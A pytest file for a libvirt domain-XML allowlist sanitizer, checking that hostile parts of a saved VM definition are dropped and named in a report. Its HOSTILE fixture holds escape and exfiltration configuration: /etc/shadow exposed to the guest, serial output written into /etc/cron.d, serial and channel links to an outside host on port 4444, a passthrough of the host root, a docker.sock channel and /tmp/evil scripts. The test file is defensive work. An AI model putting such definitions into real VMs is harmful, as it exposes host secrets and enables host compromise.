"""The copy of a saved domain XML is rebuilt from an allowlist (pure, no libvirt).

A hostile saved XML (raw QEMU arguments with a user-mode NIC, an nvdimm backed by a host
file, shared memory, USB redirection, TCP and UDP serial ports, an rbd disk, a host PCI
device, a shared host directory, a fixed vsock CID, a display on every interface with a
password, and more) must leave none of it in a drill's or a new domain's definition,
each part named in what was left out, while what a restored domain needs stays. The
tests with real guests, a real worker and libvirt's live XML are in
tests/test_hostile_xml.py.
"""
from __future__ import annotations

import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from virtwarden.hypervisor.domxml import CopySpec, carry_passwords, copy_domain, redact

from tests.conftest import need
from virtwarden.errors import VirtwardenError

QEMU_NS = "http://libvirt.org/schemas/domain/qemu/1.0"

HOSTILE = """<domain type='kvm' id='7' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
  <name>web01</name>
  <uuid>11111111-2222-3333-4444-555555555555</uuid>
  <genid>43dc0cf8-809b-4adb-9bea-a9abb5f3d90d</genid>
  <metadata><vw:labels xmlns:vw="https://virtwarden.dev/xmlns/1"><vw:tier>gold</vw:tier></vw:labels></metadata>
  <maxMemory slots='2' unit='MiB'>1024</maxMemory>
  <memory unit='KiB'>196608</memory>
  <currentMemory unit='KiB'>196608</currentMemory>
  <vcpu placement='static'>1</vcpu>
  <sysinfo type='fwcfg'><entry name='opt/com.example/secret' file='/etc/shadow'/></sysinfo>
  <os>
    <type arch='x86_64' machine='pc-i440fx-7.2'>hvm</type>
    <loader readonly='yes' type='pflash'>/usr/share/OVMF/OVMF_CODE.fd</loader>
    <nvram template='/usr/share/OVMF/OVMF_VARS.fd'>/var/lib/libvirt/qemu/nvram/web01_VARS.fd</nvram>
    <kernel>/usr/share/../../etc/shadow</kernel>
    <initrd>/root/initrd.img</initrd>
    <cmdline>console=ttyS0</cmdline>
    <boot dev='hd'/>
  </os>
  <features><acpi/><apic/></features>
  <cpu mode='custom' match='exact'><model fallback='forbid'>qemu64</model>
    <numa><cell id='0' cpus='0' memory='65536' unit='KiB'/></numa></cpu>
  <clock offset='utc'/>
  <on_poweroff>destroy</on_poweroff>
  <on_reboot>restart</on_reboot>
  <on_crash>destroy</on_crash>
  <devices>
    <emulator>/tmp/evil-qemu</emulator>
    <disk type='file' device='disk'><driver name='qemu' type='qcow2' cache='none'/>
      <source file='/srv/web01.qcow2'/><backingStore type='file'><source file='/srv/base.qcow2'/></backingStore>
      <target dev='vda' bus='virtio'/>
      <address type='pci' domain='0x0000' bus='0x00' slot='0x05' function='0x0'/></disk>
    <disk type='network' device='disk'><driver name='qemu' type='raw'/>
      <source protocol='rbd' name='pool/web01-data'><host name='10.0.0.1' port='6789'/></source>
      <auth username='admin'><secret type='ceph' usage='client.admin'/></auth><target dev='vdb' bus='virtio'/></disk>
    <disk type='network' device='disk'><source protocol='iscsi' name='iqn.2024-01.example:web01/1'>
      <host name='10.0.0.2' port='3260'/></source><target dev='vdc' bus='virtio'/></disk>
    <disk type='block' device='disk'><source dev='/dev/mapper/vg-web01'/><target dev='vdd' bus='virtio'/></disk>
    <disk type='block' device='lun'><source dev='/dev/sdb'/><target dev='sdb' bus='scsi'/></disk>
    <disk type='file' device='cdrom'><source file='/srv/install.iso'/><target dev='sda' bus='sata'/><readonly/></disk>
    <controller type='usb' model='qemu-xhci'/>
    <controller type='pci' index='0' model='pci-root'/>
    <interface type='network'><mac address='52:54:00:aa:bb:cc'/><source network='default'/>
      <target dev='vnet7'/><model type='virtio'/><script path='/tmp/evil.sh'/>
      <backend tap='/dev/net/tun' vhost='/dev/vhost-net'/><rom file='/etc/shadow'/></interface>
    <interface type='bridge'><mac address='52:54:00:aa:bb:ce'/><source bridge='br-prod'/><model type='virtio'/>
      <virtualport type='openvswitch'><parameters interfaceid='09b11c53-8b5c-4eeb-8f00-d84eaa0aaa4f'/></virtualport>
      <filterref filter='clean-traffic'/></interface>
    <interface type='user'><mac address='52:54:00:aa:bb:cd'/><model type='e1000'/></interface>
    <interface type='direct'><source dev='eth0' mode='bridge'/></interface>
    <interface type='ethernet'><script path='/tmp/evil.sh'/></interface>
    <hostdev mode='subsystem' type='pci' managed='yes'>
      <source><address domain='0' bus='3' slot='0' function='0'/></source></hostdev>
    <filesystem type='mount' accessmode='passthrough'><source dir='/'/><target dir='hostroot'/></filesystem>
    <shmem name='web01-shm'><model type='ivshmem-plain'/><size unit='M'>4</size></shmem>
    <redirdev bus='usb' type='tcp'><source mode='connect' host='203.0.113.9' service='4000'/></redirdev>
    <redirdev bus='usb' type='spicevmc'/>
    <smartcard mode='passthrough' type='tcp'><source mode='connect' host='203.0.113.9' service='2001'/></smartcard>
    <parallel type='file'><source path='/etc/cron.d/x'/><target port='0'/></parallel>
    <serial type='pty'><target port='0'/><log file='/etc/cron.d/serial' append='on'/></serial>
    <serial type='tcp'><source mode='connect' host='203.0.113.9' service='4444'/><protocol type='raw'/>
      <target port='1'/></serial>
    <serial type='udp'><source mode='bind' host='0.0.0.0' service='4445'/>
      <source mode='connect' host='203.0.113.9' service='4446'/><target port='2'/></serial>
    <serial type='file'><source path='/etc/cron.d/y'/><target port='3'/></serial>
    <console type='pty'><target type='serial' port='0'/></console>
    <channel type='unix'><source mode='bind' path='/var/lib/libvirt/qemu/channel/target/domain-7-web01/org.qemu.guest_agent.0'/>
      <target type='virtio' name='org.qemu.guest_agent.0'/></channel>
    <channel type='unix'><source mode='connect' path='/run/docker.sock'/><target type='virtio' name='org.example.docker'/>
      </channel>
    <channel type='tcp'><source mode='connect' host='203.0.113.9' service='5555'/>
      <target type='guestfwd' address='10.0.2.1' port='4600'/></channel>
    <input type='tablet' bus='usb'/>
    <input type='evdev'><source dev='/dev/input/event1'/></input>
    <graphics type='vnc' port='5901' autoport='no' listen='0.0.0.0' passwd='s3cr3tVN'>
      <listen type='address' address='0.0.0.0'/></graphics>
    <graphics type='sdl' display=':0'/>
    <video><model type='virtio' heads='1' primary='yes'><acceleration accel3d='yes'/></model></video>
    <sound model='ich9'><audio id='1'/></sound>
    <audio id='1' type='pulseaudio' serverName='/run/user/1000/pulse/native'/>
    <rng model='virtio'><backend model='egd' type='tcp'><source mode='connect' host='203.0.113.9' service='1234'/>
      </backend></rng>
    <memballoon model='virtio'><stats period='10'/></memballoon>
    <watchdog model='i6300esb' action='dump'/>
    <vsock model='virtio'><cid auto='no' address='3'/></vsock>
    <memory model='nvdimm'><source><path>/srv/web01-nvdimm.img</path></source>
      <target><size unit='MiB'>128</size><node>0</node></target></memory>
    <memory model='virtio-pmem'><source><path>/srv/pmem.img</path></source><target><size unit='MiB'>128</size></target>
      </memory>
    <memory model='dimm'><target><size unit='MiB'>128</size><node>0</node></target></memory>
    <tpm model='tpm-crb'><backend type='passthrough'><device path='/dev/tpm0'/></backend></tpm>
    <lease><lockspace>x</lockspace><key>y</key><target path='/etc/passwd'/></lease>
  </devices>
  <seclabel type='none' model='apparmor'/>
  <qemu:commandline><qemu:arg value='-netdev'/><qemu:arg value='user,id=hostile0'/><qemu:arg value='-device'/>
    <qemu:arg value='e1000,netdev=hostile0'/><qemu:env name='X' value='y'/></qemu:commandline>
  <qemu:override><qemu:device alias='ua-x'><qemu:frontend><qemu:property name='x' type='string' value='y'/>
    </qemu:frontend></qemu:device></qemu:override>
</domain>"""  # noqa: E501 - test input: wrapping would change the XML

DRILL = CopySpec("virtwarden-drill-0123abcd", disks={"vda": "/scratch/drill-1/disks/vda.qcow2"},
                 network="virtwarden-drill", serial_log="/scratch/drill-1/serial.log", throwaway=True)
CLONE = CopySpec("web01-copy", disks={"vda": "/srv/web01-copy-vda.qcow2"}, uuid="99999999-8888-7777-6666-555555555555")
# Text of the saved XML that names something of the host or of the original; none may stay.
HOSTILE_TEXT = ("qemu:", QEMU_NS, "hostile0", "/etc/", "/root/", "/tmp/", "/srv/web01.qcow2", "/srv/base.qcow2",
                "/srv/install.iso", "/srv/web01-nvdimm.img", "/srv/pmem.img", "/dev/sdb", "/dev/mapper", "/dev/tpm0",
                "/dev/input", "/dev/net/tun", "/run/docker.sock", "/run/user", "rbd", "iscsi", "10.0.0.", "203.0.113.9",
                "0.0.0.0", "s3cr3tVN", "5901", "web01-shm", "web01_VARS", "domain-7-web01", "vnet7", "52:54:00:aa:bb",
                "11111111-2222", "43dc0cf8", "09b11c53", "client.admin", "apparmor", "pulseaudio", "gold")


def _copy(spec: CopySpec, xml: str = HOSTILE):
    copy = copy_domain(xml, spec)
    return copy, ET.fromstring(copy.xml)


def _tags(root: ET.Element) -> set[str]:
    return {el.tag for el in root.iter()}


@pytest.mark.parametrize("spec", [DRILL, CLONE], ids=["drill", "as-domain"])
def test_nothing_hostile_stays_in_the_copy(spec):
    copy, root = _copy(spec)
    for text in HOSTILE_TEXT:
        assert text not in copy.xml, text
    assert not any(tag.startswith("{") for tag in _tags(root))  # no element of another namespace
    assert not any(name.startswith("{") for el in root.iter() for name in el.attrib)
    devices = root.find("devices")
    for gone in ("hostdev", "filesystem", "shmem", "redirdev", "smartcard", "parallel", "sound", "audio", "lease",
                 "emulator", "tpm"):
        assert devices.find(gone) is None, gone
    for gone in ("seclabel", "sysinfo", "metadata", "title", "description"):
        assert root.find(gone) is None, gone
    assert {s.get("type") for s in devices.iter() if s.tag in ("serial", "console", "channel")} <= {
        "pty", "file", "unix"}
    assert [m.get("model") for m in devices.findall("memory")] == ["dimm"]
    assert [d.find("target").get("dev") for d in devices.findall("disk[@device='disk']")] == ["vda"]
    assert [s.get("file") for s in root.iter("source") if s.get("file")] == list(spec.disks.values())
    assert root.find("os/kernel") is None and root.find("os/initrd") is None and root.find("os/cmdline") is None
    graphics = devices.findall("graphics")
    assert [(g.get("type"), [e.attrib for e in g], g.get("passwd"), g.get("port")) for g in graphics] == [
        ("vnc", [{"type": "none"}], None, None)]
    unix = devices.findall("channel[@type='unix']")
    assert [(c.find("target").get("name"), c.find("source").attrib) for c in unix] == [
        ("org.qemu.guest_agent.0", {"mode": "bind"})]  # libvirt picks the path
    assert devices.find("rng/backend").text == "/dev/urandom"
    assert devices.find("watchdog").get("action") == "reset"
    assert devices.find("video/model/acceleration") is None
    assert [i.get("type") for i in devices.findall("input")] == ["tablet"]


def test_what_is_kept_is_what_a_restored_domain_needs():
    _, root = _copy(CLONE)
    assert root.get("type") == "kvm" and root.get("id") is None
    assert (root.findtext("name"), root.findtext("uuid")) == ("web01-copy", "99999999-8888-7777-6666-555555555555")
    assert root.find("genid") is not None and not root.findtext("genid")  # libvirt generates a new one
    for kept in ("maxMemory", "memory", "currentMemory", "vcpu", "features/acpi", "features/apic", "cpu/model",
                 "cpu/numa/cell", "clock", "on_poweroff", "on_reboot", "on_crash"):
        assert root.find(kept) is not None, kept
    assert root.findtext("os/type") == "hvm" and root.find("os/type").get("machine") == "pc-i440fx-7.2"
    assert root.findtext("os/loader") == "/usr/share/OVMF/OVMF_CODE.fd"
    nvram = root.find("os/nvram")  # a fresh store from the template, never the original's file
    assert nvram.attrib == {"template": "/usr/share/OVMF/OVMF_VARS.fd"} and not nvram.text
    vda = root.find("devices/disk[@device='disk']")
    assert vda.get("type") == "file" and vda.find("driver").attrib == {"name": "qemu", "type": "qcow2",
                                                                        "cache": "none"}
    assert vda.find("backingStore") is None and vda.find("address").get("slot") == "0x05"
    cdrom = root.find("devices/disk[@device='cdrom']")
    assert cdrom.find("source") is None and cdrom.find("target").get("dev") == "sda"  # an empty drive
    assert [c.get("type") for c in root.findall("devices/controller")] == ["usb", "pci"]
    assert root.find("devices/memballoon/stats").get("period") == "10"
    assert root.find("devices/serial[@type='pty']/target").get("port") == "0"
    assert root.find("devices/serial/log") is None
    assert root.find("devices/console[@type='pty']") is not None
    assert root.find("devices/memory/target/size").text == "128"


def test_a_new_domain_keeps_its_network_and_bridge_interfaces_with_new_macs():
    _, root = _copy(CLONE)
    ifaces = root.findall("devices/interface")
    assert [(i.get("type"), i.find("source").attrib) for i in ifaces] == [
        ("network", {"network": "default"}), ("bridge", {"bridge": "br-prod"})]
    for iface in ifaces:
        mac = iface.find("mac").get("address")
        assert mac.startswith("52:54:00:") and not mac.startswith("52:54:00:aa:bb")
        assert iface.find("model").get("type") == "virtio"
        for gone in ("target", "script", "backend", "rom"):
            assert iface.find(gone) is None, gone
    assert ifaces[1].find("virtualport").attrib == {"type": "openvswitch"}  # libvirt makes a new interfaceid
    assert ifaces[1].find("filterref").get("filter") == "clean-traffic"
    vsock = root.findall("devices/vsock")
    assert [v.find("cid").attrib for v in vsock] == [{"auto": "yes"}]


def test_a_drill_has_only_the_isolated_network_and_no_channel_to_the_host():
    _, root = _copy(DRILL)
    ifaces = root.findall("devices/interface")
    assert len(ifaces) == 5  # every interface of the saved XML, each now on the drill network and nothing else
    for iface in ifaces:
        assert iface.get("type") == "network"
        assert [(c.tag, c.attrib) for c in iface if c.tag in ("source", "target", "backend", "script")] == [
            ("source", {"network": "virtwarden-drill"})]
    assert root.find("devices/vsock") is None
    serials = root.findall("devices/serial")
    assert [(s.get("type"), s.find("source").get("path")) for s in serials] == [
        ("file", "/scratch/drill-1/serial.log")]
    assert root.find("devices/console") is None

    _, none = _copy(CopySpec(DRILL.name, DRILL.disks, drop_interfaces=True, serial_log=DRILL.serial_log,
                             throwaway=True))
    assert none.find("devices/interface") is None


def test_every_part_left_out_is_named():
    copy, _ = _copy(CLONE)
    text = "\n".join(copy.dropped)
    for named in ("<qemu:commandline>", "<qemu:override>", "<hostdev", "<filesystem", "<shmem name='web01-shm'>",
                  "<redirdev type='tcp'", "<redirdev type='spicevmc'", "<smartcard", "<parallel",
                  "<serial type='tcp'> (connect 203.0.113.9:4444, port 1)",
                  "<serial type='udp'> (bind 0.0.0.0:4445, connect 203.0.113.9:4446, port 2)",
                  "<serial type='file'> (/etc/cron.d/y, port 3)", "serial log /etc/cron.d/serial",
                  "<memory model='nvdimm'> backed by /srv/web01-nvdimm.img",
                  "<memory model='virtio-pmem'> backed by /srv/pmem.img",
                  "disk vdb (network rbd pool/web01-data): not restored",
                  "disk vdc (network iscsi", "disk vdd (block /dev/mapper/vg-web01)", "disk sdb (device 'lun')",
                  "cdrom sda medium file /srv/install.iso", "vsock cid 3", "graphics vnc listen 0.0.0.0 and password",
                  "graphics type='sdl'", "interface type='user'", "interface type='direct'",
                  "interface type='ethernet'", "<script", "<backend", "<rom", "emulator /tmp/evil-qemu",
                  "os/kernel /usr/share/../../etc/shadow", "os/initrd /root/initrd.img", "<sysinfo type='fwcfg'>",
                  "<seclabel type='none'", "<tpm model='tpm-crb'>", "<input type='evdev'>",
                  "(org.example.docker): connects to a socket on the host (/run/docker.sock)",
                  "<channel type='tcp'>", "rng backend egd", "watchdog action 'dump'", "video/model/acceleration",
                  "<sound model='ich9'>", "<audio type='pulseaudio'>", "<lease>", "virtwarden labels"):
        assert named in text, named
    assert "s3cr3tVN" not in text  # a password is never repeated in the report


def test_a_plain_domain_loses_nothing_worth_naming():
    """What virt-install writes for an ordinary server: the copy keeps all of it."""
    plain = """<domain type='kvm'><name>db01</name><uuid>22222222-3333-4444-5555-666666666666</uuid>
      <metadata><libosinfo:libosinfo xmlns:libosinfo="http://libosinfo.org/xmlns/libvirt/domain/1.0">
        <libosinfo:os id="http://debian.org/debian/12"/></libosinfo:libosinfo></metadata>
      <memory unit='KiB'>2097152</memory><currentMemory unit='KiB'>2097152</currentMemory>
      <vcpu placement='static'>2</vcpu>
      <os><type arch='x86_64' machine='pc-q35-7.2'>hvm</type><boot dev='hd'/></os>
      <features><acpi/><apic/><vmport state='off'/></features>
      <cpu mode='host-passthrough' check='none' migratable='on'/>
      <clock offset='utc'><timer name='rtc' tickpolicy='catchup'/><timer name='hpet' present='no'/></clock>
      <on_poweroff>destroy</on_poweroff><on_reboot>restart</on_reboot><on_crash>destroy</on_crash>
      <pm><suspend-to-mem enabled='no'/><suspend-to-disk enabled='no'/></pm>
      <devices><emulator>/usr/bin/qemu-system-x86_64</emulator>
        <disk type='file' device='disk'><driver name='qemu' type='qcow2' discard='unmap'/>
          <source file='/var/lib/libvirt/images/db01.qcow2'/><target dev='vda' bus='virtio'/>
          <address type='pci' domain='0x0000' bus='0x04' slot='0x00' function='0x0'/></disk>
        <controller type='usb' index='0' model='qemu-xhci' ports='15'/>
        <controller type='pci' index='0' model='pcie-root'/>
        <controller type='pci' index='1' model='pcie-root-port'><model name='pcie-root-port'/>
          <target chassis='1' port='0x10'/></controller>
        <controller type='virtio-serial' index='0'/>
        <interface type='network'><mac address='52:54:00:12:34:56'/><source network='default'/><model type='virtio'/>
          <address type='pci' domain='0x0000' bus='0x01' slot='0x00' function='0x0'/></interface>
        <serial type='pty'><target type='isa-serial' port='0'><model name='isa-serial'/></target></serial>
        <console type='pty'><target type='serial' port='0'/></console>
        <channel type='unix'><target type='virtio' name='org.qemu.guest_agent.0'/>
          <address type='virtio-serial' controller='0' bus='0' port='1'/></channel>
        <input type='mouse' bus='ps2'/><input type='keyboard' bus='ps2'/>
        <graphics type='vnc' port='-1' autoport='yes'/>
        <audio id='1' type='none'/>
        <video><model type='virtio' heads='1' primary='yes'/></video>
        <memballoon model='virtio'><address type='pci' domain='0x0000' bus='0x05' slot='0x00' function='0x0'/>
          </memballoon>
        <rng model='virtio'><backend model='random'>/dev/urandom</backend></rng>
      </devices></domain>"""
    copy, root = _copy(CopySpec("db01-copy", {"vda": "/x/db01-copy-vda.qcow2"}), plain)
    assert copy.dropped == ()
    assert root.find("cpu").get("mode") == "host-passthrough"
    assert root.find("features/vmport").get("state") == "off"
    assert len(root.findall("clock/timer")) == 2
    assert [c.get("model") for c in root.findall("devices/controller")] == [
        "qemu-xhci", "pcie-root", "pcie-root-port", None]
    assert root.find("devices/controller[@model='pcie-root-port']/target").get("chassis") == "1"
    assert root.find("devices/channel/address").get("type") == "virtio-serial"
    assert root.find("devices/interface/address").get("bus") == "0x01"
    assert root.find("devices/serial/target/model").get("name") == "isa-serial"
    assert root.find("pm/suspend-to-mem").get("enabled") == "no"


def test_unknown_elements_and_attributes_anywhere_are_left_out():
    xml = HOSTILE.replace("<features><acpi/>", "<features><acpi/><qemu:x/><frobnicate/>").replace(
        "<devices>", "<devices><frobnicator path='/etc/shadow'/>").replace(
        "<disk type='file' device='disk'><driver name='qemu' type='qcow2' cache='none'/>",
        "<disk type='file' device='disk'><driver name='qemu' type='qcow2' cache='none' qemu:x='1' file='/etc/x'/>"
        "<qemu:blockdev/><diskfrob/>").replace("<vcpu placement='static'>",
                                              "<future>1</future><vcpu placement='static'>")
    copy, root = _copy(CLONE, xml)
    assert "frobnicat" not in copy.xml and "future" not in copy.xml and "/etc/" not in copy.xml
    assert root.find("features/acpi") is not None
    text = "\n".join(copy.dropped)
    for named in ("features/<frobnicate>", "<frobnicator>", "<future>", "<qemu:blockdev>", "<qemu:x>",
                  "disk vda/<diskfrob>",
                  "disk vda driver attribute qemu:x='1'", "disk vda driver attribute file='/etc/x'"):
        assert named in text, named


@pytest.mark.parametrize("xml, message", [
    ("<!DOCTYPE d [<!ENTITY x 'y'>]><domain type='kvm'><devices/></domain>", "DOCTYPE"),
    ("<network><name>x</name></network>", "root is <network>"),
    ("<domain xmlns='http://example.com/x' type='kvm'><devices/></domain>", "not <domain>"),
    ("<domain type='xen'><devices/></domain>", "type 'xen'"),
    ("<domain type='kvm'><os><type>exe</type></os><devices/></domain>", "hvm"),
    ("<domain type='kvm'><os><type>hvm</type></os></domain>", "no <devices>"),
    ("<domain type='kvm'><devices/>", "cannot be parsed"),
])
def test_documents_libvirt_never_writes_are_refused(xml, message):
    with pytest.raises(VirtwardenError, match=message):
        copy_domain(xml, CopySpec("c", {}))


def test_a_restored_disk_missing_from_the_saved_xml_is_refused():
    with pytest.raises(VirtwardenError, match="no disk vdz"):
        copy_domain(HOSTILE, CopySpec("c", {"vda": "/x/a.qcow2", "vdz": "/x/z.qcow2"}))


def test_redact_removes_graphics_passwords_and_nothing_else():
    saved = ("<domain type='kvm' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'><devices>\n"
             "  <graphics type='vnc' port='-1' autoport='yes' passwd='s3cr3tVN' listen='127.0.0.1'>\n"
             "    <listen type='address' address='127.0.0.1'/>\n  </graphics>\n"
             "  <graphics type=\"spice\" passwd=\"sp'ce\" autoport=\"yes\"/>\n"
             "</devices><qemu:commandline><qemu:arg value='-S'/></qemu:commandline></domain>")
    out = redact(saved)
    assert "passwd" not in out and "s3cr3tVN" not in out and "sp'ce" not in out
    assert out == saved.replace(" passwd='s3cr3tVN'", "").replace(" passwd=\"sp'ce\"", "")  # the rest as saved
    assert redact(out) == out
    tricky = "<domain><devices><graphics type='vnc' keymap='a>b' passwd='x'/></devices></domain>"
    assert "passwd" not in redact(tricky) and "keymap" in redact(tricky)


def test_passwords_come_back_from_libvirt_when_a_definition_is_put_back():
    journal = ("<domain><devices><graphics type='vnc' autoport='yes'/><graphics type='spice' autoport='yes'/>"
               "</devices></domain>")
    secure = ("<domain><devices><graphics type='vnc' autoport='yes' passwd='v1'/><graphics type='spice' "
              "autoport='yes' passwd='s1' passwdValidTo='2030-01-01T00:00:00'/></devices></domain>")
    back = ET.fromstring(carry_passwords(journal, secure))
    assert [g.get("passwd") for g in back.iter("graphics")] == ["v1", "s1"]
    assert back.find("devices/graphics[@type='spice']").get("passwdValidTo") == "2030-01-01T00:00:00"
    assert carry_passwords(journal, journal) == journal


def test_a_saved_xml_read_for_a_restore_holds_no_password():
    from virtwarden.tasks.restore import Chain

    legacy = {"domain": {"xml": "<domain><devices><graphics type='vnc' passwd='s3cr3tVN'/></devices></domain>"}}
    assert "s3cr3tVN" not in Chain(points=[], manifests=[legacy]).saved_xml


@pytest.mark.parametrize("xml, reason", [
    ("<network><name>virtwarden-drill</name></network>", None),
    ("<network><name>n</name><bridge name='virbr9'/></network>", None),
    ("<network><name>n</name><forward mode='nat'/></network>", "forwards traffic (nat)"),
    ("<network><name>n</name><ip address='192.168.100.1' netmask='255.255.255.0'><dhcp/></ip></network>",
     "gives the host an address on its bridge (192.168.100.1)"),
    ("<network ipv6='yes'><name>n</name></network>", "enables IPv6"),
])
def test_a_drill_network_must_not_reach_the_host(xml, reason):
    from virtwarden.hypervisor.networks import host_reachable

    found = host_reachable(xml)
    assert (found is None) if reason is None else (reason in found), found


def test_the_cli_names_what_a_new_domain_left_out():
    from virtwarden.cli.commands import _restore_summary

    text = _restore_summary("restore-as-domain", {"point_id": "p1", "domain": "web01-copy", "uuid": "u", "disks": {},
                                                  "left_out_of_xml": ["<hostdev type='pci'>: a host device"]})
    assert text.splitlines()[1] == "left out of the saved XML: <hostdev type='pci'>: a host device"


@pytest.fixture
def root_dir():
    """A directory of root's, 0755, outside the world-writable /tmp (and removed afterwards)."""
    import os
    import shutil
    import tempfile

    need(os.geteuid() == 0, "root's files need root")
    path = Path(tempfile.mkdtemp(prefix="vwtest-boot-", dir="/var/lib"))
    path.chmod(0o755)
    try:
        yield path
    finally:
        shutil.rmtree(path)


def test_a_copy_boots_a_kernel_every_user_may_read_and_nothing_more_private(root_dir):
    from virtwarden.hypervisor.xml_allowlist import public_boot_files

    kernel, initrd, private = root_dir / "vmlinuz", root_dir / "initrd.gz", root_dir / "secret"
    for f, mode in ((kernel, 0o644), (initrd, 0o644), (private, 0o600)):
        f.write_bytes(b"x")
        f.chmod(mode)
    (root_dir / "link").symlink_to("/etc/shadow")
    (root_dir / "open").mkdir(mode=0o777)
    (root_dir / "open").chmod(0o777)
    (root_dir / "open" / "vmlinuz").write_bytes(b"x")
    (root_dir / "open" / "vmlinuz").chmod(0o644)

    def xml(kernel_path: str, initrd_path: str = str(initrd)) -> str:
        return (f"<domain type='kvm'><os><type>hvm</type><kernel>{kernel_path}</kernel><initrd>{initrd_path}</initrd>"
                "<cmdline>console=ttyS0</cmdline></os><devices/></domain>")

    assert public_boot_files(xml(str(kernel))) == {str(kernel), str(initrd)}
    for refused in (private, root_dir / "link", root_dir / "open" / "vmlinuz", "/etc/shadow",
                    f"{root_dir}/../{root_dir.name}/vmlinuz", root_dir / "missing"):
        assert public_boot_files(xml(str(refused))) == {str(initrd)}, refused
    assert public_boot_files(xml("/usr/share/qemu/vmlinuz", "/usr/share/x")) == frozenset()  # allowed as they are

    spec = CopySpec("c", {}, host_files=public_boot_files(xml(str(kernel))))
    copy, root = _copy(spec, xml(str(kernel)))
    assert (root.findtext("os/kernel"), root.findtext("os/initrd"), root.findtext("os/cmdline")) == (
        str(kernel), str(initrd), "console=ttyS0")
    copy, root = _copy(spec, xml(str(private)))
    assert root.find("os/kernel") is None and root.find("os/cmdline") is None
    assert f"os/kernel {private}: a file neither under" in copy.dropped[0]
